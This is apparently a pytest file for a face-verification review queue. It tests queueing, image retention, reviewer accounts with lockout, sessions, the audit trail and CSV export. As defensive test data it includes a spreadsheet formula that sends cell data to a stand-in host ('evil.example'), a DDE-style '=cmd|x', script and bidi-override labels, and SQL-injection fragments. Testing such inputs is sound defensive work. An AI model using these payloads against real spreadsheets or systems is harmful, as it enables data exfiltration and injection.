"""The review queue's rules (review/service.py) with an injected clock, on SQLite (and one PostgreSQL smoke test):
what is queued from a real verification, stable case ids, retention, decisions, reviewer accounts (argon2id, the
lockout), console sessions and their expiry, the audit trail, and the CSV export."""

from __future__ import annotations

import csv
import hashlib
import io
import uuid

import pytest

from facecompare.errors import InvalidParameterException, ResourceNotFoundException
from facecompare.native import verification_dict
from facecompare.review.service import (
    CASE_NAMESPACE,
    LOCKOUT_SECONDS,
    SESSION_IDLE_SECONDS,
    SESSION_MAX_SECONDS,
    ReviewQueue,
    open_queue,
    retention_days_from_env,
    token_hash,
)
from facecompare.review.store import CaseFilter, open_review_store

DAY = 86400.0
T0 = 1_750_000_000.0
PASSWORD = "correct horse battery"
ALL = CaseFilter(statuses=())


class Clock:
    def __init__(self, now: float = T0) -> None:
        self.now = now

    def __call__(self) -> float:
        return self.now


@pytest.fixture(scope="module")
def images(fixtures) -> tuple[bytes, bytes]:
    return (fixtures / "Tony_Blair_0001.jpg").read_bytes(), (fixtures / "Colin_Powell_0001.jpg").read_bytes()


@pytest.fixture(scope="module")
def result(verifier, images) -> dict:
    """A real verification: two faces in the selfie is REVIEW with MULTIPLE_FACES_IN_SELFIE."""
    return verification_dict(verifier.verify(*images))


@pytest.fixture(scope="module")
def model(verifier) -> str:
    return verifier.recognizer.name


@pytest.fixture
def clock() -> Clock:
    return Clock()


@pytest.fixture
def queue(tmp_path, clock):
    store = open_review_store(f"sqlite:///{tmp_path / 'collections.db'}")
    yield ReviewQueue(store, clock=clock)
    store.close()


def actions(queue: ReviewQueue) -> list[tuple[str, str]]:
    """(actor, action) of the whole audit log, oldest first."""
    return [(e.actor, e.action) for e in reversed(queue.store.audit_log())]


# -- queueing -------------------------------------------------------------------------------------------------


def test_the_fixture_verification_is_a_review(result):
    assert result["decision"] == "REVIEW"
    assert result["reasons"] == ["MULTIPLE_FACES_IN_SELFIE"]
    assert result["selfie_faces"] >= 2


def test_queue_keeps_the_verification_and_both_images(queue, clock, result, model, images):
    case, created = queue.queue(result, model, *images, source="api")
    assert created is True
    assert uuid.UUID(case.case_id).version == 4  # no batch and reference: a random id
    stored = queue.store.get_case(case.case_id)
    assert stored == case
    assert (stored.created_at, stored.source, stored.model, stored.engine_decision, stored.status, stored.version) == (
        T0, "api", model, "REVIEW", "OPEN", 1)
    assert (stored.similarity, stored.distance, stored.threshold, stored.review_band, stored.reasons) == (
        result["similarity"], result["distance"], result["threshold"], tuple(result["review_band"]),
        ["MULTIPLE_FACES_IN_SELFIE"])
    assert stored.evidence == {key: result[key] for key in ("selfie_face", "document_face", "selfie_faces",
                                                            "document_faces", "notes")}
    assert (stored.batch, stored.reference, stored.reviewed_by, stored.images_erased_at) == (None, None, None, None)
    selfie, document = queue.store.get_image(case.case_id, "selfie"), queue.store.get_image(case.case_id, "document")
    assert (selfie.media_type, selfie.data) == ("image/jpeg", images[0])
    assert (document.media_type, document.data) == ("image/jpeg", images[1])
    assert actions(queue) == [("system:api", "CASE_QUEUED")]


def test_a_batch_row_is_queued_once(queue, clock, result, model, images):
    first, created = queue.queue(result, model, *images, source="batch", batch="run 2026-11", reference="row-7")
    assert created is True
    digests = "\x00".join(hashlib.sha256(data).hexdigest() for data in images)
    assert first.case_id == str(uuid.uuid5(CASE_NAMESPACE, f"run 2026-11\x00row-7\x00{digests}"))
    assert (first.batch, first.reference, first.source) == ("run 2026-11", "row-7", "batch")
    clock.now += 3600
    again, created = queue.queue(result, model, *images, source="batch", batch="run 2026-11", reference="row-7")
    assert created is False and again == first
    other, created = queue.queue(result, model, *images, source="batch", batch="run 2026-11", reference="row-8")
    assert created is True and other.case_id != first.case_id
    # the same labels with other images (a customer who tried again with a new selfie) are another case
    swapped, created = queue.queue(result, model, images[1], images[0], source="api", batch="run 2026-11",
                                   reference="row-7")
    assert created is True and swapped.case_id not in (first.case_id, other.case_id)
    assert queue.store.get_image(swapped.case_id, "selfie").data == images[1]
    assert queue.store.count_cases(ALL) == 3
    # without both a batch and a reference every queueing is a new case
    a, _ = queue.queue(result, model, *images, source="api", reference="row-7")
    b, _ = queue.queue(result, model, *images, source="api", reference="row-7")
    assert a.case_id != b.case_id and queue.store.count_cases(ALL) == 5


def test_a_png_is_kept_as_png(queue, result, model, images):
    import struct
    import zlib

    def chunk(kind: bytes, data: bytes) -> bytes:
        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))

    png = (b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", struct.pack(">IIBBBBB", 1, 1, 8, 0, 0, 0, 0))
           + chunk(b"IDAT", zlib.compress(b"\x00\x00")) + chunk(b"IEND", b""))
    case, _ = queue.queue(result, model, images[0], png, source="cli")
    assert queue.store.get_image(case.case_id, "document").media_type == "image/png"
    assert queue.store.get_image(case.case_id, "document").data == png


@pytest.mark.parametrize("document", [b"GIF89a\x01\x00\x01\x00", b"BM" + b"\x00" * 64, b"", b"\xff\xd8",
                                      b"RIFF\x00\x00\x00\x00AVI LIST"])
def test_only_the_accepted_formats_are_queued(queue, result, model, images, document):
    with pytest.raises(InvalidParameterException, match="Only JPEG, PNG, HEIC/HEIF, WebP, AVIF and PDF"):
        queue.queue(result, model, images[0], document, source="api")
    with pytest.raises(InvalidParameterException, match="Only JPEG, PNG, HEIC/HEIF, WebP, AVIF and PDF"):
        queue.queue(result, model, document, images[1], source="api")
    assert queue.store.count_cases(ALL) == 0 and queue.store.audit_log() == []


@pytest.mark.parametrize("label", ["a\nb", "row-7\n", "x" * 201, "tab\there", "del\x7f", "\x00",
                                   "next\x85line", "\u202eevil.exe"])  # C1 control; a bidi override
def test_bad_batch_and_reference_labels_are_refused(queue, result, model, images, label):
    for field in ("batch", "reference"):
        with pytest.raises(InvalidParameterException, match=field):
            queue.queue(result, model, *images, source="batch", **{field: label})
    assert queue.store.count_cases(ALL) == 0


def test_any_printable_label_is_kept_as_it_is(queue, result, model, images):
    """A batch row's id is its reference, and ids are the caller's: any printable text up to 200 characters is
    kept as given (pages escape it; the CSV export defuses formulas)."""
    for n, label in enumerate(["<script>", "a;b", "=cmd|x", "Zoë 42", "x" * 200]):
        case, created = queue.queue(result, model, *images, source="batch", batch=f"b{n}", reference=label)
        assert created and queue.store.get_case(case.case_id).reference == label


# -- retention ------------------------------------------------------------------------------------------------


def test_retention_erases_the_images_after_30_days_and_keeps_the_case(queue, clock, result, model, images):
    case, _ = queue.queue(result, model, *images, source="api")
    assert queue.erases_at(case) == T0 + 30 * DAY
    clock.now = T0 + 29 * DAY
    assert queue.purge() == []
    assert queue.store.get_image(case.case_id, "selfie").data == images[0]
    clock.now = T0 + 30 * DAY + 1
    assert queue.purge() == [case.case_id]
    assert queue.store.get_image(case.case_id, "selfie") is None
    assert queue.store.get_image(case.case_id, "document") is None
    kept = queue.store.get_case(case.case_id)
    assert (kept.status, kept.reasons, kept.distance, kept.images_erased_at) == (
        "OPEN", ["MULTIPLE_FACES_IN_SELFIE"], case.distance, T0 + 30 * DAY + 1)
    assert actions(queue)[-1] == ("system:retention", "IMAGES_ERASED")
    clock.now += DAY
    assert queue.purge() == []
    assert [a for _, a in actions(queue)].count("IMAGES_ERASED") == 1


def test_queueing_runs_a_due_purge(queue, clock, result, model, images):
    old, _ = queue.queue(result, model, *images, source="api")
    clock.now = T0 + 31 * DAY
    new, _ = queue.queue(result, model, *images, source="api")
    assert queue.store.get_case(old.case_id).images_erased_at == T0 + 31 * DAY
    assert queue.store.get_image(new.case_id, "selfie").data == images[0]


def test_a_shorter_retention(tmp_path, clock, result, model, images):
    queue = open_queue(f"sqlite:///{tmp_path / 'c.db'}", {"FACECOMPARE_REVIEW_RETENTION_DAYS": "7"}, clock)
    try:
        assert queue.retention_days == 7.0
        case, _ = queue.queue(result, model, *images, source="api")
        clock.now = T0 + 7 * DAY - 1
        assert queue.purge() == []
        clock.now = T0 + 7 * DAY + 1
        assert queue.purge() == [case.case_id]
    finally:
        queue.store.close()


@pytest.mark.parametrize("environ, days", [({}, 30.0), ({"FACECOMPARE_REVIEW_RETENTION_DAYS": ""}, 30.0),
                                           ({"FACECOMPARE_REVIEW_RETENTION_DAYS": " "}, 30.0),
                                           ({"FACECOMPARE_REVIEW_RETENTION_DAYS": "7"}, 7.0),
                                           ({"FACECOMPARE_REVIEW_RETENTION_DAYS": " 0.5 "}, 0.5)])
def test_retention_days_from_env(environ, days):
    assert retention_days_from_env(environ) == days


@pytest.mark.parametrize("raw", ["0", "-1", "abc", "nan", "inf", "-inf", "1e400", "7 days"])
def test_retention_days_from_env_refuses(raw):
    with pytest.raises(InvalidParameterException, match="FACECOMPARE_REVIEW_RETENTION_DAYS"):
        retention_days_from_env({"FACECOMPARE_REVIEW_RETENTION_DAYS": raw})


@pytest.mark.parametrize("days", [0, -1, float("nan")])
def test_a_queue_refuses_a_retention_that_is_not_positive(queue, days):
    with pytest.raises(InvalidParameterException):
        ReviewQueue(queue.store, retention_days=days)


# -- decisions ------------------------------------------------------------------------------------------------


@pytest.mark.parametrize("action, comment, message", [
    ("MATCH", "", "comment is required"), ("MATCH", "   \n\t", "comment is required"),
    ("MATCH", None, "comment is required"), ("APPROVE", "looks fine", "must be one of"),
    ("match", "looks fine", "must be one of"), ("ESCALATED", "looks fine", "must be one of"),
    ("MATCH", "x" * 2001, "longer than 2000"),
])
def test_decide_needs_a_known_action_and_a_comment(queue, result, model, images, action, comment, message):
    case, _ = queue.queue(result, model, *images, source="api")
    with pytest.raises(InvalidParameterException, match=message):
        queue.decide(case.case_id, action, "ann", comment, case.version)
    assert queue.store.get_case(case.case_id) == case
    assert [a for _, a in actions(queue)] == ["CASE_QUEUED"]


def test_decide_stamps_the_clock_and_strips_the_comment(queue, clock, result, model, images):
    case, _ = queue.queue(result, model, *images, source="api")
    clock.now = T0 + 120
    decided = queue.decide(case.case_id, "NO_MATCH", "ann", "  different ears \n", case.version)
    assert (decided.status, decided.reviewed_by, decided.reviewed_at, decided.comment) == (
        "NO_MATCH", "ann", T0 + 120, "different ears")
    with pytest.raises(ResourceNotFoundException):
        queue.decide("no-such-case", "MATCH", "ann", "seen", 1)


# -- accounts and sign-in -------------------------------------------------------------------------------------


@pytest.mark.parametrize("password", ["", "short", "x" * 11, "x" * 1025, None])
def test_a_bad_password_is_refused(queue, password):
    with pytest.raises(InvalidParameterException, match="password"):
        queue.add_reviewer("ann", password)
    assert queue.store.reviewer("ann") is None


@pytest.mark.parametrize("name", ["", "-ann", ".ann", "an n", "ann\nx", "ann\n", "x" * 65, "änn", "ann/x", "ann;drop", None])
def test_a_bad_name_is_refused(queue, name):
    with pytest.raises(InvalidParameterException, match="reviewer name"):
        queue.add_reviewer(name, PASSWORD)
    assert queue.store.list_reviewers() == []


def test_good_names_and_the_shortest_password(queue):
    for name in ("ann", "a", "ann.lee@example.com", "A_9-x", "x" * 64):
        queue.add_reviewer(name, "x" * 12)
    assert len(queue.store.list_reviewers()) == 5


def test_the_password_is_stored_as_an_argon2id_hash(queue):
    queue.add_reviewer("ann", PASSWORD)
    reviewer, stored = queue.store.reviewer("ann")
    assert stored.startswith("$argon2id$")
    assert PASSWORD not in stored
    queue.add_reviewer("bob", PASSWORD)
    assert queue.store.reviewer("bob")[1] != stored  # salted


def test_sign_in_with_the_right_and_a_wrong_password(queue, clock):
    queue.add_reviewer("ann", PASSWORD)
    assert queue.sign_in("ann", PASSWORD + "!") is None
    assert queue.sign_in("ann", "") is None
    assert queue.sign_in("nobody", PASSWORD) is None
    assert queue.sign_in("", PASSWORD) is None
    signed = queue.sign_in("ann", PASSWORD)
    assert signed.session.username == "ann" and signed.session.created_at == T0
    assert signed.session.token_hash == token_hash(signed.token) != signed.token
    assert queue.store.session(token_hash(signed.token)) == signed.session
    assert queue.store.session(signed.token) is None  # the token itself is never stored
    assert queue.session(signed.token) == signed.session
    assert queue.session("not-a-token") is None and queue.session(None) is None
    assert queue.session("x" * 129) is None
    # a known name's failures are audited; unknown names are only counted (issue 22: no row per attempt)
    assert actions(queue) == [("system:cli", "REVIEWER_ADDED"), ("ann", "SIGN_IN_FAILED"), ("ann", "SIGN_IN_FAILED"),
                              ("ann", "SIGN_IN")]


def test_a_disabled_reviewer_cannot_sign_in_and_loses_their_sessions(queue):
    queue.add_reviewer("ann", PASSWORD)
    queue.add_reviewer("bob", PASSWORD)
    ann, ann2, bob = queue.sign_in("ann", PASSWORD), queue.sign_in("ann", PASSWORD), queue.sign_in("bob", PASSWORD)
    queue.set_disabled("ann", True)
    assert queue.store.reviewer("ann")[0].disabled is True
    assert queue.store.session(ann.session.token_hash) is None and queue.store.session(ann2.session.token_hash) is None
    assert queue.session(ann.token) is None
    assert queue.sign_in("ann", PASSWORD) is None
    assert queue.session(bob.token) == bob.session
    queue.set_disabled("ann", False)
    assert queue.sign_in("ann", PASSWORD).session.username == "ann"
    assert [a for a in actions(queue) if a[0] != "bob"][-4:] == [
        ("system:cli", "REVIEWER_DISABLED"), ("ann", "SIGN_IN_FAILED"), ("system:cli", "REVIEWER_ENABLED"),
        ("ann", "SIGN_IN")]
    with pytest.raises(ResourceNotFoundException):
        queue.set_disabled("carol", True)


def test_a_session_of_a_reviewer_disabled_directly_in_the_store_ends(queue):
    queue.add_reviewer("ann", PASSWORD)
    signed = queue.sign_in("ann", PASSWORD)
    queue.store.update_reviewer("ann", disabled=True)  # e.g. another process disabled the account
    assert queue.session(signed.token) is None
    assert queue.store.session(signed.session.token_hash) is None


def test_set_password_ends_the_sessions_and_the_old_password(queue):
    queue.add_reviewer("ann", PASSWORD)
    signed = queue.sign_in("ann", PASSWORD)
    old_hash = queue.store.reviewer("ann")[1]
    queue.set_password("ann", "a new long passphrase")
    assert queue.store.reviewer("ann")[1] != old_hash and queue.store.reviewer("ann")[1].startswith("$argon2id$")
    assert queue.session(signed.token) is None
    assert queue.sign_in("ann", PASSWORD) is None
    assert queue.sign_in("ann", "a new long passphrase").session.username == "ann"
    with pytest.raises(InvalidParameterException):
        queue.set_password("ann", "short")


def test_five_failures_lock_the_name_for_15_minutes(queue, clock):
    queue.add_reviewer("ann", PASSWORD)
    queue.add_reviewer("bob", PASSWORD)
    for _ in range(4):
        assert queue.sign_in("ann", "wrong password!") is None
        clock.now += 10
    assert queue.sign_in("ann", PASSWORD) is not None  # four failures: not locked, and a success clears them
    for _ in range(5):
        assert queue.sign_in("ann", "wrong password!") is None
        clock.now += 10
    last_failure = clock.now - 10
    first_failure = last_failure - 40
    assert queue.sign_in("ann", PASSWORD) is None  # locked: the right password is refused too
    assert actions(queue)[-1] == ("ann", "SIGN_IN_REFUSED")
    assert queue.sign_in("bob", PASSWORD) is not None  # only that name
    clock.now = first_failure + LOCKOUT_SECONDS - 1
    assert queue.sign_in("ann", PASSWORD) is None
    clock.now = first_failure + LOCKOUT_SECONDS + 1  # the first failure has left the window: four remain
    assert queue.sign_in("ann", PASSWORD).session.username == "ann"
    assert actions(queue)[-1] == ("ann", "SIGN_IN")


def test_a_locked_name_stays_locked_without_more_guesses(queue, clock):
    queue.add_reviewer("ann", PASSWORD)
    for _ in range(5):
        queue.sign_in("ann", "wrong password!")
    for minutes in (1, 5, 14):
        clock.now = T0 + minutes * 60
        assert queue.sign_in("ann", PASSWORD) is None
    clock.now = T0 + LOCKOUT_SECONDS
    assert queue.sign_in("ann", PASSWORD) is not None
    assert [a for _, a in actions(queue)].count("SIGN_IN_REFUSED") == 1  # when the lock began, not per attempt


# -- sessions -------------------------------------------------------------------------------------------------


def test_a_session_ends_after_30_idle_minutes(queue, clock):
    queue.add_reviewer("ann", PASSWORD)
    signed = queue.sign_in("ann", PASSWORD)
    clock.now = T0 + SESSION_IDLE_SECONDS - 60
    assert queue.session(signed.token) is not None  # and its idle time starts again
    assert queue.store.session(signed.session.token_hash).last_seen == clock.now
    clock.now += SESSION_IDLE_SECONDS - 60
    assert queue.session(signed.token) is not None
    clock.now += SESSION_IDLE_SECONDS + 1
    assert queue.session(signed.token) is None
    assert queue.store.session(signed.session.token_hash) is None  # deleted, not just refused


def test_a_session_ends_after_12_hours_however_active(queue, clock):
    queue.add_reviewer("ann", PASSWORD)
    signed = queue.sign_in("ann", PASSWORD)
    while clock.now + 20 * 60 <= T0 + SESSION_MAX_SECONDS:
        clock.now += 20 * 60
        assert queue.session(signed.token) is not None
    assert clock.now == T0 + SESSION_MAX_SECONDS
    clock.now = T0 + SESSION_MAX_SECONDS + 1
    assert queue.session(signed.token) is None
    assert queue.store.session(signed.session.token_hash) is None


def test_purge_drops_expired_sessions(queue, clock):
    queue.add_reviewer("ann", PASSWORD)
    idle = queue.sign_in("ann", PASSWORD)
    clock.now = T0 + SESSION_IDLE_SECONDS - 10
    fresh = queue.sign_in("ann", PASSWORD)
    clock.now = T0 + SESSION_IDLE_SECONDS + 1
    queue.purge()
    assert queue.store.session(idle.session.token_hash) is None
    assert queue.store.session(fresh.session.token_hash) == fresh.session


def test_sign_out(queue, clock):
    queue.add_reviewer("ann", PASSWORD)
    one, two = queue.sign_in("ann", PASSWORD), queue.sign_in("ann", PASSWORD)
    clock.now += 5
    queue.sign_out(one.session)
    assert queue.session(one.token) is None and queue.store.session(one.session.token_hash) is None
    assert queue.session(two.token) == two.session  # another browser stays signed in
    entry = queue.store.audit_log()[0]
    assert (entry.actor, entry.action, entry.at) == ("ann", "SIGN_OUT", T0 + 5)


# -- the audit trail ------------------------------------------------------------------------------------------


def test_every_sign_in_failure_and_decision_is_audited(queue, clock, result, model, images):
    queue.add_reviewer("ann", PASSWORD)
    case, _ = queue.queue(result, model, *images, source="api")
    clock.now += 1
    queue.sign_in("ann", "wrong password!")
    clock.now += 1
    signed = queue.sign_in("ann", PASSWORD)
    clock.now += 1
    queue.decide(case.case_id, "ESCALATE", "ann", "two people in the selfie", 1)
    clock.now += 1
    queue.decide(case.case_id, "NO_MATCH", "bea", "the main face differs", 2)  # not who escalated it
    clock.now += 1
    queue.sign_out(signed.session)
    entries = list(reversed(queue.store.audit_log()))
    assert [(e.actor, e.action, e.case_id, e.previous_state, e.new_state, e.comment, e.at) for e in entries] == [
        ("system:cli", "REVIEWER_ADDED", None, None, "ann", None, T0),
        ("system:api", "CASE_QUEUED", case.case_id, None, "OPEN", "MULTIPLE_FACES_IN_SELFIE", T0),
        ("ann", "SIGN_IN_FAILED", None, None, None, None, T0 + 1),
        ("ann", "SIGN_IN", None, None, None, None, T0 + 2),
        ("ann", "ESCALATE", case.case_id, "OPEN", "ESCALATED", "two people in the selfie", T0 + 3),
        ("bea", "NO_MATCH", case.case_id, "ESCALATED", "NO_MATCH", "the main face differs", T0 + 4),
        ("ann", "SIGN_OUT", None, None, None, None, T0 + 5),
    ]


# -- the queue's filter and the export ------------------------------------------------------------------------


def test_case_filter():
    now = T0
    assert ReviewQueue.case_filter(now=now) == CaseFilter(statuses=("OPEN",))
    assert ReviewQueue.case_filter("pending", "FACE_TOO_SMALL", "b1", min_age_hours=1, max_age_hours=24,
                                   now=now) == CaseFilter(statuses=("OPEN", "ESCALATED"), reason="FACE_TOO_SMALL",
                                                          batch="b1", created_before=now - 3600,
                                                          created_after=now - 24 * 3600)
    assert ReviewQueue.case_filter("decided", now=now).statuses == ("MATCH", "NO_MATCH")
    assert ReviewQueue.case_filter("all", "", "", now=now) == CaseFilter(statuses=())
    with pytest.raises(InvalidParameterException, match="status"):
        ReviewQueue.case_filter("closed", now=now)
    for reason in ("face_too_small", "FACE%", "FACE TOO", "FACE_TOO_SMALL\n", "X" * 65, "'; DROP"):
        with pytest.raises(InvalidParameterException, match="reason"):
            ReviewQueue.case_filter("all", reason, now=now)


def test_export_csv(queue, clock, result, model, images):
    first, _ = queue.queue(result, model, *images, source="batch", batch="run-1", reference="row-1")
    clock.now = T0 + 60
    second, _ = queue.queue(result, model, *images, source="api")
    clock.now = T0 + 120
    queue.decide(first.case_id, "MATCH", "ann", '=HYPERLINK("http://evil.example/?"&A1, "click")', 1)
    clock.now = T0 + 31 * DAY
    queue.purge()
    text = queue.export_csv(ALL)
    rows = list(csv.reader(io.StringIO(text)))
    assert rows[0] == ["case_id", "queued_at", "source", "batch", "reference", "model", "engine_decision",
                       "similarity", "threshold", "reasons", "status", "reviewed_by", "reviewed_at", "comment",
                       "images_erased_at"]
    assert len(rows) == 3
    erased = "2025-07-16T15:06:40Z"  # T0 + 31 days
    assert rows[1] == [first.case_id, "2025-06-15T15:06:40Z", "batch", "run-1", "row-1", model, "REVIEW",
                       str(result["similarity"]), str(result["threshold"]), "MULTIPLE_FACES_IN_SELFIE", "MATCH", "ann",
                       "2025-06-15T15:08:40Z", '\'=HYPERLINK("http://evil.example/?"&A1, "click")', erased]
    assert rows[2] == [second.case_id, "2025-06-15T15:07:40Z", "api", "", "", model, "REVIEW",
                       str(result["similarity"]), str(result["threshold"]), "MULTIPLE_FACES_IN_SELFIE", "OPEN", "", "",
                       "", erased]
    out = io.StringIO()
    assert queue.export_csv(CaseFilter(statuses=("MATCH",)), out) is None
    assert [row[0] for row in csv.reader(io.StringIO(out.getvalue()))] == ["case_id", first.case_id]


@pytest.mark.parametrize("comment", ["+1 same person", "-ok", "@SUM(A1)", "=1+1"])
def test_export_csv_defuses_formulas_in_comments(queue, result, model, images, comment):
    case, _ = queue.queue(result, model, *images, source="api")
    queue.decide(case.case_id, "MATCH", "ann", comment, 1)
    [_, row] = list(csv.reader(io.StringIO(queue.export_csv(ALL))))
    assert row[13] == "'" + comment


def test_export_csv_keeps_a_plain_comment(queue, result, model, images):
    case, _ = queue.queue(result, model, *images, source="api")
    queue.decide(case.case_id, "NO_MATCH", "ann", 'said "no", twice\nreally', 1)
    [_, row] = list(csv.reader(io.StringIO(queue.export_csv(ALL))))
    assert row[13] == 'said "no", twice\nreally'


# -- PostgreSQL -----------------------------------------------------------------------------------------------


def test_the_queue_on_postgresql(postgres_url, result, model, images):
    clock = Clock()
    queue = open_queue(postgres_url, {}, clock)
    try:
        case, created = queue.queue(result, model, *images, source="batch", batch="b", reference="r")
        assert created is True and queue.queue(result, model, *images, source="batch", batch="b",
                                                reference="r")[1] is False
        assert queue.store.get_image(case.case_id, "selfie").data == images[0]
        queue.add_reviewer("ann", PASSWORD)
        signed = queue.sign_in("ann", PASSWORD)
        assert queue.store.reviewer("ann")[1].startswith("$argon2id$")
        assert queue.session(signed.token) == signed.session
        decided = queue.decide(case.case_id, "MATCH", "ann", "=same", 1)
        assert (decided.status, decided.version) == ("MATCH", 2)
        clock.now = T0 + 30 * DAY + 1
        assert queue.purge() == [case.case_id]
        assert queue.store.get_image(case.case_id, "selfie") is None
        assert queue.session(signed.token) is None  # idle for 30 days
        rows = list(csv.reader(io.StringIO(queue.export_csv(ALL))))
        assert len(rows) == 2 and rows[1][10:14] == ["MATCH", "ann", "2025-06-15T15:06:40Z", "'=same"]
        assert [a for _, a in actions(queue)] == ["CASE_QUEUED", "REVIEWER_ADDED", "SIGN_IN", "MATCH",
                                                  "IMAGES_ERASED"]
    finally:
        queue.store.close()


def test_the_lockout_holds_across_processes_and_restarts(queue, clock):
    """The failures are counted in the store's audit log, not in one process's memory: a second worker (or the
    service after a restart) refuses a locked name too, and a sign-in anywhere clears the count everywhere."""
    from facecompare.review.store import open_review_store

    queue.add_reviewer("ann", PASSWORD)
    other = ReviewQueue(open_review_store(queue.store.url), 30, clock)
    try:
        for attempt in range(5):
            assert (queue if attempt % 2 else other).sign_in("ann", "wrong password!") is None
        assert other.sign_in("ann", PASSWORD) is None and queue.sign_in("ann", PASSWORD) is None
        clock.now = T0 + LOCKOUT_SECONDS + 1
        assert other.sign_in("ann", PASSWORD) is not None
        for _ in range(4):
            queue.sign_in("ann", "wrong password!")
        assert other.sign_in("ann", PASSWORD) is not None  # four: not locked; and this success clears them
        for _ in range(4):
            queue.sign_in("ann", "wrong password!")
        assert other.sign_in("ann", PASSWORD) is not None
        # names tried and failed are kept only in the audit log: nothing grows in the process
        assert not any(isinstance(v, dict) and v for v in vars(queue).values())
    finally:
        other.store.close()


@pytest.mark.parametrize("missing", ["decision", "threshold", "review_band"])
def test_a_verification_without_its_decision_threshold_or_band_is_refused(queue, result, model, images, missing):
    broken = {k: v for k, v in result.items() if k != missing}
    with pytest.raises(InvalidParameterException, match="decision, threshold and review band"):
        queue.queue(broken, model, *images, source="api")
    assert queue.store.count_cases(ALL) == 0
